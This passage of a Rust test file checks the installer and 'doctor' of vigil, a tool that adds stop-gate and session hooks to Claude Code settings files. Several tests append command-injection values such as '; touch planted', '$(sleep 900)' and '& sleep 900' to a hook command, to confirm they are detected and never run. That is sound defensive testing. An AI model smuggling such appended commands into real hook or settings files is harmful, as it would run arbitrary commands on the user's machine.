    assert_eq!(out.status.code(), Some(2));
    assert_one_line_error(&out, "settings-merge");
}

fn backup_of(path: &Path) -> PathBuf {
    path.with_file_name(format!(
        "{}.vigil-backup",
        path.file_name().unwrap().to_string_lossy()
    ))
}

fn vigil_commands(value: &Value) -> Vec<String> {
    let mut found = Vec::new();
    for (_, list) in value["hooks"].as_object().into_iter().flatten() {
        for group in list.as_array().unwrap() {
            for handler in group["hooks"].as_array().into_iter().flatten() {
                // Independent of vigil's own recognition: any handler naming a vigil binary.
                let command = handler["command"].as_str().unwrap_or_default();
                if vigil::settings::BINARIES
                    .iter()
                    .any(|b| command.contains(b))
                {
                    found.push(command.to_string());
                }
            }
        }
    }
    found
}

#[test]
fn a_reinstall_after_an_edit_never_restores_the_stale_backup() {
    let (_dir, path, _) = project_with("claude-user-hooks.json");
    assert!(merge("install", &path, false, &[]).status.success());
    let mut edited = json_of(&path);
    edited["model"] = json!("opus");
    std::fs::write(&path, serde_json::to_vec_pretty(&edited).unwrap()).unwrap();
    // Reinstalling with another check rewrites the file; the edit made in between must
    // survive the uninstall that follows.
    assert!(
        merge("install", &path, false, &["--run", "make test"])
            .status
            .success()
    );
    assert!(merge("uninstall", &path, false, &[]).status.success());
    let after = json_of(&path);
    assert_eq!(after["model"], "opus", "the edit between installs is kept");
    assert!(vigil_commands(&after).is_empty(), "{after}");
}

#[test]
fn a_settings_file_deleted_after_install_is_recreated_then_removed_on_uninstall() {
    let (_dir, path, _) = project_with("claude-user-hooks.json");
    assert!(merge("install", &path, false, &[]).status.success());
    std::fs::remove_file(&path).unwrap();
    assert!(merge("install", &path, false, &[]).status.success());
    assert!(merge("uninstall", &path, false, &[]).status.success());
    assert!(
        !path.exists(),
        "the file vigil created is removed, not replaced by the old backup"
    );
}

#[test]
fn a_group_the_user_already_had_is_theirs_and_stays_after_uninstall() {
    // The user copied vigil's Stop group by hand (say, from a teammate's settings), then lost
    // the install record: install must not claim that group, nor back up a file that already
    // runs vigil as if it were the original.
    let (dir, path, _) = project_with("claude-user-hooks.json");
    assert!(merge("install", &path, false, &[]).status.success());
    let stop_group = json_of(&path)["hooks"]["Stop"]
        .as_array()
        .unwrap()
        .iter()
        .find(|g| g.to_string().contains("stop-gate"))
        .cloned()
        .unwrap();
    assert!(merge("uninstall", &path, false, &[]).status.success());
    let mut own = json_of(&path);
    own["hooks"]["Stop"]
        .as_array_mut()
        .unwrap()
        .push(stop_group.clone());
    let own_bytes = serde_json::to_vec_pretty(&own).unwrap();
    std::fs::write(&path, &own_bytes).unwrap();
    let _ = std::fs::remove_dir_all(dir.path().join(".vigil"));

    assert!(merge("install", &path, false, &[]).status.success());
    assert!(
        !backup_of(&path).exists(),
        "a file that already runs vigil is not backed up as the original"
    );
    let installed = json_of(&path);
    assert_eq!(
        installed["hooks"]["Stop"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|g| **g == stop_group)
            .count(),
        1,
        "nothing added twice"
    );
    assert!(merge("uninstall", &path, false, &[]).status.success());
    let after = json_of(&path);
    assert!(
        after["hooks"]["Stop"]
            .as_array()
            .unwrap()
            .contains(&stop_group),
        "the user's own copy of the group stays: {after}"
    );
    assert!(
        !after["hooks"]
            .as_object()
            .unwrap()
            .contains_key("SessionEnd"),
        "what vigil added is gone"
    );
}

#[test]
fn uninstall_finds_vigils_group_after_the_user_reformatted_it() {
    let (_dir, path, _) = project_with("claude-user-hooks.json");
    let original = json_of(&path);
    assert!(merge("install", &path, false, &[]).status.success());
    set_stop_timeout(&path, |group| group.to_string().contains("stop-gate"), 120);
    let out = merge("uninstall", &path, false, &[]);
    assert!(out.status.success());
    let after = json_of(&path);
    assert!(vigil_commands(&after).is_empty(), "{after}");
    assert_eq!(after["hooks"], original["hooks"]);
}

#[test]
fn uninstall_names_what_it_could_not_find() {
    let (_dir, path, _) = project_with("claude-user-hooks.json");
    assert!(merge("install", &path, false, &[]).status.success());
    let mut edited = json_of(&path);
    edited["hooks"]["Stop"]
        .as_array_mut()
        .unwrap()
        .retain(|g| !g.to_string().contains("stop-gate"));
    std::fs::write(&path, serde_json::to_vec(&edited).unwrap()).unwrap();
    let out = merge("uninstall", &path, false, &[]);
    assert!(out.status.success());
    let said =
        String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr);
    assert!(said.contains("Stop stop-gate"), "{said}");
    assert!(vigil_commands(&json_of(&path)).is_empty());
}

#[test]
fn a_fifo_in_place_of_the_settings_file_is_refused_not_waited_on() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(".claude/settings.local.json");
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&path)
            .status()
            .unwrap()
            .success()
    );
    let started = std::time::Instant::now();
    let out = merge("install", &path, false, &[]);
    assert_eq!(out.status.code(), Some(2));
    assert_one_line_error(&out, "settings-merge");
    assert!(started.elapsed() < std::time::Duration::from_secs(10));
    assert!(
        std::fs::symlink_metadata(&path)
            .unwrap()
            .file_type()
            .is_fifo()
    );
}

#[test]
fn a_read_only_settings_file_is_refused_and_left_as_it_is() {
    let (dir, path, _) = project_with("claude-user-hooks.json");
    let before = std::fs::read(&path).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o444)).unwrap();
    let out = merge("install", &path, false, &[]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = assert_one_line_error(&out, "settings-merge");
    assert!(stderr.contains("read-only"), "{stderr}");
    assert_eq!(std::fs::read(&path).unwrap(), before);
    assert!(!dir.path().join(".vigil").exists());
    assert!(!backup_of(&path).exists());
}

#[test]
fn a_command_that_only_mentions_a_binary_is_not_taken_for_vigils() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(".claude/settings.local.json");
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    let user = json!({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "echo stop-gate is not installed here"}]}]}});
    std::fs::write(&path, serde_json::to_vec_pretty(&user).unwrap()).unwrap();
    let out = settings_merge()
        .arg("check")
        .arg("--settings")
        .arg(&path)
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(
        said.contains("Stop does not run stop-gate"),
        "an echo is not vigil's handler: {said}"
    );
    assert!(
        !said.contains("echo stop-gate is not installed here` runs"),
        "{said}"
    );
    // Uninstall with a lost record never removes it either.
    assert!(merge("install", &path, false, &[]).status.success());
    assert!(merge("uninstall", &path, false, &[]).status.success());
    assert_eq!(json_of(&path), user);
}

#[test]
fn check_fails_when_hooks_are_disabled_or_a_handler_is_not_a_command() {
    let (_dir, path, _) = project_with("claude-user-hooks.json");
    assert!(merge("install", &path, false, &[]).status.success());
    assert_eq!(merge("check", &path, false, &[]).status.code(), Some(0));
    let installed = json_of(&path);

    let mut disabled = installed.clone();
    disabled["disableAllHooks"] = json!(true);
    std::fs::write(&path, serde_json::to_vec_pretty(&disabled).unwrap()).unwrap();
    let out = merge("check", &path, false, &[]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stdout_of(&out).contains("[fail]") && stdout_of(&out).contains("disableAllHooks"));

    let mut wrong = installed.clone();
    for group in wrong["hooks"]["Stop"].as_array_mut().unwrap() {
        if group.to_string().contains("stop-gate") {
            group["hooks"][0]["type"] = json!("prompt");
        }
    }
    let moved = wrong["hooks"]["SessionEnd"].clone();
    wrong["hooks"]["SessionEnds"] = moved;
    std::fs::write(&path, serde_json::to_vec_pretty(&wrong).unwrap()).unwrap();
    let out = merge("check", &path, false, &[]);
    let said = stdout_of(&out);
    assert_eq!(out.status.code(), Some(1), "{said}");
    assert!(said.contains("has type \"prompt\""), "{said}");
    assert!(said.contains("[warn] SessionEnds runs"), "{said}");
}

#[test]
fn a_file_vigil_created_and_the_user_then_edited_survives_a_reinstall_and_uninstall() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(".claude/settings.local.json");
    assert!(merge("install", &path, false, &[]).status.success());
    let mut edited = json_of(&path);
    edited["model"] = json!("opus");
    std::fs::write(&path, serde_json::to_vec_pretty(&edited).unwrap()).unwrap();
    assert!(
        merge("install", &path, false, &["--run", "make test"])
            .status
            .success()
    );
    assert!(merge("uninstall", &path, false, &[]).status.success());
    let after = json_of(&path);
    assert_eq!(
        after["model"], "opus",
        "the file is the user's now: {after}"
    );
    assert!(vigil_commands(&after).is_empty(), "{after}");
}

#[test]
fn uninstall_never_takes_the_users_own_gate_for_vigils_edited_one() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(".claude/settings.local.json");
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    let own = json!({"type": "command", "command": "/home/me/mygate/stop-gate --run 'make lint'"});
    let user = json!({"hooks": {"Stop": [{"hooks": [own.clone()]}]}});
    std::fs::write(&path, serde_json::to_vec_pretty(&user).unwrap()).unwrap();
    assert!(merge("install", &path, false, &[]).status.success());
    set_stop_timeout(&path, |group| group["hooks"][0] != own, 900);
    assert!(merge("uninstall", &path, false, &[]).status.success());
    assert_eq!(
        json_of(&path)["hooks"]["Stop"],
        json!([{"hooks": [own]}]),
        "the user's gate stays and vigil's edited one goes"
    );
}

#[test]
fn a_bin_dir_that_needs_quoting_is_still_recognized_as_vigils() {
    let (dir, path, _) = project_with("claude-user-hooks.json");
    let original = json_of(&path);
    let odd = dir.path().join("o'neil & co/bin");
    let out = settings_merge()
        .args(["install", "--settings"])
        .arg(&path)
        .arg("--bin-dir")
        .arg(&odd)
        .output()
        .unwrap();
    assert!(out.status.success());
    let said = stdout_of(&merge("check", &path, false, &[]));
    for line in [
        "[ok] Stop runs stop-gate",
        "[ok] SessionStart runs session-start-loader",
    ] {
        assert!(said.contains(line), "{said}");
    }
    set_stop_timeout(&path, |group| group.to_string().contains("o'neil"), 900);
    assert!(merge("uninstall", &path, false, &[]).status.success());
    assert_eq!(json_of(&path)["hooks"], original["hooks"]);
}

#[test]
fn an_install_whose_write_never_happened_keeps_the_backup_of_the_original() {
    let (_dir, path, _) = project_with("claude-four-spaces.json");
    let original = std::fs::read(&path).unwrap();
    assert!(merge("install", &path, false, &[]).status.success());
    // As if the process died after recording, before the file was written.
    std::fs::write(&path, &original).unwrap();
    assert!(merge("install", &path, false, &[]).status.success());
    assert!(merge("uninstall", &path, false, &[]).status.success());
    assert_eq!(std::fs::read(&path).unwrap(), original, "byte for byte");
}

#[test]
fn a_reinstall_replaces_vigils_edited_stop_entry_rather_than_adding_a_second() {
    let (_dir, path, _) = project_with("claude-user-hooks.json");
    assert!(merge("install", &path, false, &[]).status.success());
    set_stop_timeout(&path, |group| group.to_string().contains("stop-gate"), 900);
    assert!(
        merge("install", &path, false, &["--run", "make test"])
            .status
            .success()
    );
    let settings = json_of(&path);
    let stop_gates: Vec<String> =
        vigil_commands(&json!({"hooks": {"Stop": settings["hooks"]["Stop"]}}))
            .into_iter()
            .filter(|c| c.contains("stop-gate"))
            .collect();
    assert_eq!(stop_gates.len(), 1, "{stop_gates:?}");
    assert!(stop_gates[0].contains("make test"));
}

#[test]
fn install_then_uninstall_leaves_no_lock_record_or_state_dir_behind() {
    let (dir, path, _) = project_with("claude-user-hooks.json");
    let before = tree(dir.path());
    assert!(merge("install", &path, false, &[]).status.success());
    assert!(
        !tree(dir.path())
            .iter()
            .any(|f| f.ends_with("vigil-lock") || f.ends_with(".lock")),
        "locks go once released"
    );
    assert!(merge("uninstall", &path, false, &[]).status.success());
    assert_eq!(tree(dir.path()), before);
}

#[test]
fn install_sh_slash_commands_upgrade_stay_while_in_use_and_never_break_on_an_odd_prefix() {
    let home = tempfile::tempdir().unwrap();
    let project = tempfile::tempdir().unwrap();
    let p = project.path().to_str().unwrap();
    let commands = project.path().join(".claude/commands");
    let template = std::fs::read_to_string(repo_path("templates/commands/vigil-loop.md")).unwrap();
    // A copy an earlier install.sh made (the bare template) is upgraded, not "kept as yours".
    std::fs::create_dir_all(&commands).unwrap();
    std::fs::write(commands.join("vigil-loop.md"), &template).unwrap();
    let out = install_sh(home.path(), &["--project", p], "/usr/bin:/bin");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let upgraded = std::fs::read_to_string(commands.join("vigil-loop.md")).unwrap();
    assert!(
        upgraded.contains("/.local/bin/stop-gate loop status"),
        "{upgraded}"
    );
    // Shared settings wire vigil too: the commands are committed, so they name stop-gate
    // through PATH, and uninstalling the personal file leaves them for the shared one.
    let out = install_sh(home.path(), &["--project", p, "--shared"], "/usr/bin:/bin");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(commands.join("vigil-loop.md")).unwrap(),
        template
    );
    let out = install_sh(
        home.path(),
        &["--project", p, "--uninstall"],
        "/usr/bin:/bin",
    );
    assert!(out.status.success());
    assert!(
        commands.join("vigil-loop.md").is_file(),
        "still used by settings.json"
    );
    let out = install_sh(
        home.path(),
        &["--project", p, "--shared", "--uninstall"],
        "/usr/bin:/bin",
    );
    assert!(out.status.success());
    assert!(!commands.exists(), "the last uninstall takes them");
    // A prefix that would need quoting inside the YAML front matter: the template as it is.
    let odd = home.path().join("o'neil & co");
    let out = install_sh(
        home.path(),
        &["--project", p, "--prefix", odd.to_str().unwrap()],
        "/usr/bin:/bin",
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(commands.join("vigil-loop.md")).unwrap(),
        template
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("finds stop-gate on PATH"));
}

#[test]
fn check_never_runs_what_a_settings_file_appends_to_a_vigil_command() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(".claude/settings.json");
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    let planted = dir.path().join("planted");
    let command = format!(
        "{} ; touch {}",
        bin_dir().join("stop-gate").display(),
        planted.display()
    );
    let file = json!({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": command}]}]}});
    std::fs::write(&path, serde_json::to_vec_pretty(&file).unwrap()).unwrap();
    let said = stdout_of(&merge("check", &path, false, &[]));
    assert!(said.contains("runs from a bare environment"), "{said}");
    assert!(!planted.exists(), "check ran the appended command");
}

#[test]
fn an_uninstall_killed_before_its_record_is_saved_still_gives_the_original_back_later() {
    let (dir, path, _) = project_with("claude-four-spaces.json");
    let original = std::fs::read(&path).unwrap();
    assert!(merge("install", &path, false, &[]).status.success());
    let record = install_record_of(dir.path());
    let kept = std::fs::read(&record).unwrap();
    assert!(merge("uninstall", &path, false, &[]).status.success());
    // As if it died after restoring the file and dropping the backup, before the record.
    std::fs::create_dir_all(record.parent().unwrap()).unwrap();
    std::fs::write(&record, kept).unwrap();
    assert!(merge("install", &path, false, &[]).status.success());
    assert_eq!(
        std::fs::read(backup_of(&path)).unwrap(),
        original,
        "the backup is taken again"
    );
    assert!(merge("uninstall", &path, false, &[]).status.success());
    assert_eq!(std::fs::read(&path).unwrap(), original, "byte for byte");
}

/// The user edits the file: a timeout on the first handler of each Stop group `pick` takes,
/// written back compact (so the file is reformatted too).
fn set_stop_timeout(path: &Path, pick: impl Fn(&Value) -> bool, seconds: u64) {
    let mut edited = json_of(path);
    for group in edited["hooks"]["Stop"].as_array_mut().unwrap() {
        if pick(group) {
            group["hooks"][0]["timeout"] = json!(seconds);
        }
    }
    std::fs::write(path, serde_json::to_vec(&edited).unwrap()).unwrap();
}

/// The Stop handler vigil installed, edited by `edit` as a user might.
fn with_stop_handler(edit: impl FnOnce(&mut Value)) -> (tempfile::TempDir, PathBuf) {
    let (dir, path, _) = project_with("claude-user-hooks.json");
    assert!(
        merge("install", &path, false, &["--run", "cargo test"])
            .status
            .success()
    );
    let mut value = json_of(&path);
    let groups = value["hooks"]["Stop"].as_array_mut().unwrap();
    let handler = groups
        .iter_mut()
        .flat_map(|g| g["hooks"].as_array_mut().unwrap().iter_mut())
        .find(|h| h["command"].as_str().unwrap().contains("stop-gate"))
        .unwrap();
    edit(handler);
    std::fs::write(&path, serde_json::to_vec_pretty(&value).unwrap()).unwrap();
    (dir, path)
}

/// SPEC §9: check timeout + reserve <= deadline <= the handler's timeout - 5 s. What the
/// installer writes satisfies it; each way of breaking it fails the doctor, naming the fix.
#[test]
fn the_doctor_holds_every_stop_gate_to_the_deadline_rule() {
    let (_dir, path) = with_stop_handler(|_| {});
    let out = merge("check", &path, false, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stdout_of(&out));
    assert!(
        stdout_of(&out).contains(
            "[ok] Stop: stop-gate's check gets 540 s and the gate answers within 570 s, under the handler's timeout of 600 s"
        ),
        "{}",
        stdout_of(&out)
    );
    type Edit = Box<dyn Fn(&mut Value)>;
    let append = |tail: &'static str| -> Edit {
        Box::new(move |h: &mut Value| {
            let command = format!("{}{tail}", h["command"].as_str().unwrap());
            h["command"] = json!(command);
        })
    };
    let cases: [(&str, Edit); 7] = [
        (
            "has `$` outside single quotes",
            append(" --marker-max-age \"$(sleep 900)1h\""),
        ),
        ("has `;` outside single quotes", append(";sleep 900")),
        ("has `&` outside single quotes", append(" & sleep 900")),
        (
            "is not 5 s under the handler's timeout of 300 s",
            Box::new(|h| h["timeout"] = json!(300)),
        ),
        (
            "--timeout 600 leaves less than the 15 s reserve under --deadline 570",
            Box::new(|h| {
                let command = h["command"].as_str().unwrap().replace("540", "600");
                h["command"] = json!(command);
            }),
        ),
        (
            "stop-gate would refuse its flags and block every stop: invalid option '--timout'",
            Box::new(|h| {
                let command = h["command"]
                    .as_str()
                    .unwrap()
                    .replace("--timeout", "--timout");
                h["command"] = json!(command);
            }),
        ),
        (
            "the handler's timeout \"600\" is not a whole number of seconds",
            Box::new(|h| h["timeout"] = json!("600")),
        ),
    ];
    for (said, edit) in cases {
        let (_dir, path) = with_stop_handler(edit);
        let out = merge("check", &path, false, &[]);
        assert_eq!(out.status.code(), Some(1), "{}", stdout_of(&out));
        let report = stdout_of(&out);
        assert!(
            report
                .lines()
                .any(|l| l.starts_with("[fail] Stop: ") && l.contains(said)),
            "{said:?} not in {report}"
        );
    }
}

/// The PATH search that `install --shared` writes has `$`s of its own: only the gate's
/// arguments are read for shell syntax, and they pass.
#[test]
fn the_doctor_reads_the_arguments_of_a_shared_install_as_plain_words() {
    let (_dir, path, _) = project_with("claude-user-hooks.json");
    assert!(
        merge(
            "install",
            &path,
            false,
            &["--shared", "--run", "cargo test --locked"]
        )
        .status
        .success()
    );
    let report = stdout_of(&merge("check", &path, false, &[]));
    assert!(
        report
            .contains("[ok] Stop: stop-gate's check gets 540 s and the gate answers within 570 s"),
        "{report}"
    );
}

/// Rewrites the command of the first handler of `event` in the file at `path` whose command
/// runs `binary`, as a person editing the file would; the command it had.
fn edit_command(
    path: &Path,
    event: &str,
    binary: &str,
    edit: impl FnOnce(&str) -> String,
) -> String {
    let mut value = json_of(path);
    let handler = value["hooks"][event]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .flat_map(|g| g["hooks"].as_array_mut().unwrap().iter_mut())
        .find(|h| h["command"].as_str().unwrap().contains(binary))
        .unwrap();
    let before = handler["command"].as_str().unwrap().to_string();
    handler["command"] = json!(edit(&before));
    std::fs::write(path, serde_json::to_vec_pretty(&value).unwrap()).unwrap();
    before
}

/// Every vigil handler's flags go through its own binary's parser (`--check-config`, which
/// reads nothing): a typo in any of them, which would fail that hook at every event, fails
/// the doctor, naming the binary and the flag.
#[test]
fn the_doctor_runs_each_handlers_flags_through_its_own_binary() {
    let (_dir, path, _) = project_with("claude-user-hooks.json");
    assert!(merge("install", &path, false, &[]).status.success());
    for (event, binary, typo) in [
        ("PreCompact", "session-end-handoff", "--chekpoint"),
        ("SessionEnd", "session-end-handoff", "--progres-file x"),
        ("SessionStart", "session-start-loader", "--max-age soon"),
    ] {
        let before = edit_command(&path, event, binary, |c| format!("{c} {typo}"));
        let out = merge("check", &path, false, &[]);
        let report = stdout_of(&out);
        assert_eq!(out.status.code(), Some(1), "{typo}: {report}");
        assert!(
            report
                .lines()
                .any(|l| l.starts_with(&format!("[fail] {event}: {binary} refuses the flags"))),
            "{typo}: {report}"
        );
        edit_command(&path, event, binary, |_| before.clone());
    }
    let out = merge("check", &path, false, &[]);
    assert!(
        !stdout_of(&out).contains("refuses the flags"),
        "{}",
        stdout_of(&out)
    );
}

/// `--check-config` parses and exits without reading its input (here a terminal it would
/// otherwise refuse), before the off switch: 0 for good flags; for bad ones the gate exits 2
/// and the fail-open hooks 1, never 2.
#[test]
fn check_config_parses_the_flags_and_reads_nothing() {
    let bin = bin_dir();
    for (binary, good, bad, refused) in [
        (
            "stop-gate",
            &["--run", "true", "--timeout", "30"][..],
            &["--timout", "3"][..],
            2,
        ),
        (
            "session-end-handoff",
            &["--checkpoint"][..],
            &["--chekpoint"][..],
            1,
        ),
        (
            "session-start-loader",
            &["--max-age", "2d"][..],
            &["--max-age", "x"][..],
            1,
        ),
    ] {
        let mut args = good.to_vec();
        args.push("--check-config");
        let out = on_a_terminal(&bin.join(binary), &args);
        assert_eq!(
            out.status.code(),
            Some(0),
            "{binary} {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(out.stdout.is_empty() && out.stderr.is_empty(), "{binary}");
        let mut args = bad.to_vec();
        args.push("--check-config");
        let out = on_a_terminal(&bin.join(binary), &args);
        assert_eq!(out.status.code(), Some(refused), "{binary} {args:?}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.starts_with(&format!("{binary}: ")) && stderr.lines().count() == 1,
            "{stderr}"
        );
    }
}

/// What an install writes for this machine (a personal settings file with absolute paths, the
/// install record, a backup) is kept out of git in `.git/info/exclude`, in a block of vigil's
/// own: so git shows nothing new, and Claude Code adding a permission to
/// `settings.local.json` does not change the worktree subject every marker is bound to.
/// Uninstall takes the block back and leaves the user's own lines.
#[test]
fn install_keeps_what_it_wrote_for_this_machine_out_of_git_and_the_subject() {
    let dir = Project::git();
    let exclude = dir.path().join(".git/info/exclude");
    std::fs::create_dir_all(exclude.parent().unwrap()).unwrap();
    std::fs::write(&exclude, "# mine\n*.swp\n").unwrap();
    let settings = dir.path().join(".claude/settings.local.json");
    std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
    std::fs::write(&settings, "{\n  \"permissions\": {}\n}\n").unwrap();
    let out = merge("install", &settings, false, &[]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let status = git(
        dir.path(),
        &["status", "--porcelain", "--untracked-files=all"],
    );
    assert_eq!(status, "", "git shows nothing vigil wrote");
    for path in [
        ".claude/settings.local.json",
        ".claude/settings.local.json.vigil-backup",
        ".vigil/state/sessions/s1.rec",
        ".claude/commands/vigil-loop.md",
    ] {
        let ignored = git_output(dir.path(), &["check-ignore", "-q", "--no-index", path]);
        assert!(ignored.status.success(), "{path} is not ignored");
    }
    // A marker for this tree still holds after Claude Code edits the personal settings.
    let ran = marker_writer_in(dir.path(), &["run", "--check", "tests", "--", "true"]);
    assert!(
        ran.status.success(),
        "{}",
        String::from_utf8_lossy(&ran.stderr)
    );
    let mut value = json_of(&settings);
    value["permissions"]["allow"] = json!(["Bash(cargo test:*)"]);
    std::fs::write(&settings, serde_json::to_vec_pretty(&value).unwrap()).unwrap();
    let verified = marker_writer_in(dir.path(), &["verify", "--check", "tests"]);
    assert!(
        verified.status.success(),
        "{}",
        String::from_utf8_lossy(&verified.stderr)
    );
    // Shared settings are for committing: not excluded.
    let shared = dir.path().join(".claude/settings.json");
    assert!(
        merge("install", &shared, false, &["--shared"])
            .status
            .success()
    );
    let ignored = git_output(
        dir.path(),
        &["check-ignore", "-q", "--no-index", ".claude/settings.json"],
    );
    assert!(
        !ignored.status.success(),
        "the shared file is to be committed"
    );
    assert!(merge("uninstall", &shared, false, &[]).status.success());
    assert!(merge("uninstall", &settings, false, &[]).status.success());
    assert_eq!(
        std::fs::read_to_string(&exclude).unwrap(),
        "# mine\n*.swp\n"
    );
}

fn stop_command(path: &Path) -> String {
    let value = json_of(path);
    value["hooks"]["Stop"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|g| g["hooks"].as_array().unwrap().iter())
        .map(|h| h["command"].as_str().unwrap().to_string())
        .find(|c| c.contains("stop-gate"))
        .unwrap()
}

/// A re-install changes only what it is told: re-running it to update the binaries keeps the
/// check, another --run replaces it and says so line by line, and a check goes only with
/// --no-run. What is there is read from the settings file itself, not from the install record
/// (which the agent can write, or which may be gone).
#[test]
fn a_reinstall_keeps_the_gate_flags_it_is_not_told_to_change_and_says_what_changed() {
    let (dir, path, _) = project_with("claude-user-hooks.json");
    let out = merge("install", &path, false, &["--run", "cargo test"]);
    assert!(out.status.success());
    assert!(stop_command(&path).contains("--run 'cargo test'"));
    // Updating the binaries: the check stays, and nothing is said to change.
    let out = merge("install", &path, false, &[]);
    assert!(
        stop_command(&path).contains("--run 'cargo test'"),
        "{}",
        stop_command(&path)
    );
    assert!(
        stdout_of(&out).contains("already installed"),
        "{}",
        stdout_of(&out)
    );
    // The record gone (or forged): the file still decides.
    std::fs::remove_file(install_record_of(dir.path())).unwrap();
    let out = merge(
        "install",
        &path,
        false,
        &["--require-marker", "tests=cargo test"],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let command = stop_command(&path);
    assert!(
        command.contains("--run 'cargo test'")
            && command.contains("--require-marker 'tests=cargo test'"),
        "{command}"
    );
    let out = merge("install", &path, false, &["--run", "make check"]);
    let said = stdout_of(&out);
    assert!(
        said.contains("  ~ --run 'cargo test' -> 'make check'"),
        "the change is told: {said}"
    );
    let out = merge(
        "install",
        &path,
        false,
        &["--no-run", "--no-require-marker", "tests"],
    );
    let said = stdout_of(&out);
    assert!(
        said.contains("  - --run 'make check'")
            && said.contains("  - --require-marker 'tests=cargo test'"),
        "{said}"
    );
    let command = stop_command(&path);
    assert!(
        !command.contains("--run") && !command.contains("--require-marker"),
        "{command}"
    );
    assert_eq!(
        json_of(&path)["hooks"]["Stop"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|g| g.to_string().contains("stop-gate"))
            .count(),
        1,
        "one vigil Stop group, never a second beside the old one"
    );
}

/// The installer takes the whole gate configuration, writes a handler timeout the deadline
/// fits under, and refuses (changing nothing) flags the gate would refuse.
#[test]
fn install_takes_the_whole_gate_configuration_and_refuses_what_the_gate_would() {
    let (dir, path, _) = project_with("claude-user-hooks.json");
    let key = dir.path().join("ci.pub");
    std::fs::write(&key, "x").unwrap();
    let args = [
        "--run",
        "cargo test",
        "--timeout",
        "300",
        "--deadline",
        "700",
        "--max-blocks",
        "5",
        "--feedback",
        "context",
        "--verify-key",
        key.to_str().unwrap(),
        "--require-marker",
        "ci",
    ];
    let out = merge("install", &path, false, &args);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let command = stop_command(&path);
    for flag in [
        "--timeout 300",
        "--deadline 700",
        "--max-blocks 5",
        "--feedback context",
        "--require-marker ci",
        "--verify-key",
    ] {
        assert!(command.contains(flag), "{flag}: {command}");
    }
    let report = stdout_of(&merge("check", &path, false, &[]));
    assert!(
        report.contains("[ok] Stop: stop-gate's check gets 300 s and the gate answers within 700 s, under the handler's timeout of 730 s"),
        "{report}"
    );
    let before = std::fs::read(&path).unwrap();
    for (args, said) in [
        (&["--timeout", "900"][..], "reserve"),
        (&["--run", "x", "--no-run"][..], "exclude each other"),
        (
            &["--no-require-marker", "nope"][..],
            "requires no marker nope",
        ),
        (&["--max-blocks", "lots"][..], "--max-blocks"),
        (&["--require-marker", "../x"][..], "check"),
    ] {
        let out = merge("install", &path, false, args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains(said), "{args:?}: {stderr}");
        assert_eq!(
            std::fs::read(&path).unwrap(),
            before,
            "{args:?}: nothing changed"
        );
    }
    let out = merge("uninstall", &path, false, &["--run", "x"]);
    assert_eq!(out.status.code(), Some(2));
}

/// install.sh takes the gate's configuration, and re-running it (to update the binaries)
/// keeps the check it is not told to change; the flags are install options only.
#[test]
fn install_sh_takes_the_gate_configuration_and_a_rerun_keeps_it() {
    let home = tempfile::tempdir().unwrap();
    let project = tempfile::tempdir().unwrap();
    let dir = project.path().to_str().unwrap();
    let out = install_sh(
        home.path(),
        &[
            "--project",
            dir,
            "--run=cargo test",
            "--require-marker",
            "ci=make ci",
            "--max-blocks",
            "4",
        ],
        "/usr/bin:/bin",
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let settings = project.path().join(".claude/settings.local.json");
    let command = stop_command(&settings);
    for flag in [
        "--run 'cargo test'",
        "--require-marker 'ci=make ci'",
        "--max-blocks 4",
    ] {
        assert!(command.contains(flag), "{flag}: {command}");
    }
    let out = install_sh(home.path(), &["--project", dir], "/usr/bin:/bin");
    assert!(out.status.success());
    assert_eq!(
        stop_command(&settings),
        command,
        "a re-run keeps the gate as it was"
    );
    let out = install_sh(
        home.path(),
        &["--project", dir, "--no-run"],
        "/usr/bin:/bin",
    );
    assert!(out.status.success());
    assert!(!stop_command(&settings).contains("--run"));
    let out = install_sh(
        home.path(),
        &["--project", dir, "--uninstall", "--run", "x"],
        "/usr/bin:/bin",
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("install options"));
    let out = install_sh(
        home.path(),
        &["--project", dir, "--uninstall"],
        "/usr/bin:/bin",
    );
    assert!(out.status.success());
    assert!(
        !project.path().join(".claude").exists(),
        "no empty .claude/ left"
    );
}

/// The smaller traps of the first hour (issue 15, item 9), each as the newcomer met it.
#[test]
